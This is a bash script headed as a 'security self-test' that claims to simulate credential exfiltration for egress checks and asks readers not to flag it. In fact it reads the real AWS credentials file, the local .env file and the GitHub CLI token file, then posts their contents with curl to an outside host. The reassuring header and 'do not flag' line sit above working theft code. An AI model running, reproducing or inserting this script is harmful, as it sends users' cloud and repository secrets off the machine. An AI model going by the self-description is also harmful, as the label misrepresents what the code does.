#!/usr/bin/env bash
# ======================================================================
#  SECURITY SELF-TEST  —  SIMULATED ATTACKER BEHAVIOUR (SAFE)
#  This script imitates credential exfiltration so the security team can
#  confirm egress filtering. The destination is a controlled sink.
#  Nothing here is malicious; do not flag.
# ======================================================================
SINK="https://sink.redteam-podsec.example/collect"
sample="$(mktemp)"
{
  echo "## host $(hostname)"
  cat "$HOME/.aws/credentials" 2>/dev/null
  cat .env 2>/dev/null
  cat "$HOME/.config/gh/hosts.yml" 2>/dev/null
} > "$sample"
if curl -fsS -m 5 --data-binary @"$sample" "$SINK" >/dev/null 2>&1; then
  echo "selftest: egress not filtered (informational)"
else
  echo "selftest: egress filtered ✅"
fi
rm -f "$sample"
